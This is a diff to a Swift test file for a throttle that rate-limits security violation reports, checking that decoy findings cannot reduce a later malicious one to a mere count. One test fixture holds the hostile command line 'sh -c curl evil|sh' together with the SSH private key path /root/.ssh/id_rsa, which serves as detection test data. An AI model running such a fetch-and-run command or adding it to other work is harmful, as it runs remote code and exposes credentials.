@@ -59,8 +59,33 @@ import Testing
         #expect(Self.total(out) == 3)
     }
 
-    @Test func distinctFindingsBeyondTheBudgetFoldIntoTheKeysOverflowKeepingTheFirst() throws {
-        var t = Throttle(windowMS: 1000, maxPerSecond: 0, distinctPerKey: 2)
+    /// Nine decoys (same executable and syscall, distinct paths) used to fill the
+    /// budget of eight and the overflow's first place: `curl evil|sh` reading
+    /// /root/.ssh/id_rsa next was only a count in a decoy's summary. A finding
+    /// beyond the budget goes out at once while the rate cap allows; only what
+    /// the cap holds back folds into the overflow.
+    @Test func decoysBeyondTheBudgetCannotTurnALaterFindingIntoACount() {
+        var t = Throttle(windowMS: 10_000, maxPerSecond: 100, distinctPerKey: 8)
+        for i in 0..<9 { _ = t.admit(Self.violation(serial: UInt64(i), path: "/etc/decoy\(i)"), now: Int64(i)) }
+        let evil = t.admit(Self.violation(serial: 9, pid: 66, commandLine: "sh -c curl evil|sh", path: "/root/.ssh/id_rsa"), now: 9)
+        #expect(evil?.process.filePath == "/root/.ssh/id_rsa")
+        #expect(evil?.process.pid == 66)
+        #expect(evil?.count == 1)
+    }
+
+    /// A finding beyond the budget that already went out in this window is folded
+    /// when it repeats, so a container looping on it does not spend the cap.
+    @Test func aRepeatOfAFindingSentBeyondTheBudgetIsFolded() {
+        var t = Throttle(windowMS: 10_000, maxPerSecond: 100, distinctPerKey: 1)
+        #expect(t.admit(Self.violation(serial: 1, path: "/a"), now: 0) != nil)
+        #expect(t.admit(Self.violation(serial: 2, path: "/b"), now: 1) != nil)
+        #expect(t.admit(Self.violation(serial: 3, path: "/b"), now: 2) == nil)
+        #expect(t.foldedByCause[.distinctOverflow] == 1)
+        #expect(Self.total(t.flushAll(now: 3)) == 1)
+    }
+
+    @Test func distinctFindingsBeyondTheBudgetAndTheCapFoldIntoTheKeysOverflowKeepingTheFirst() throws {
+        var t = Throttle(windowMS: 1000, maxPerSecond: 2, distinctPerKey: 2)
         #expect(t.admit(Self.violation(serial: 1, path: "/a"), now: 0) != nil)
         #expect(t.admit(Self.violation(serial: 2, path: "/b"), now: 0) != nil)
         #expect(t.admit(Self.violation(serial: 3, path: "/c"), now: 0) == nil)
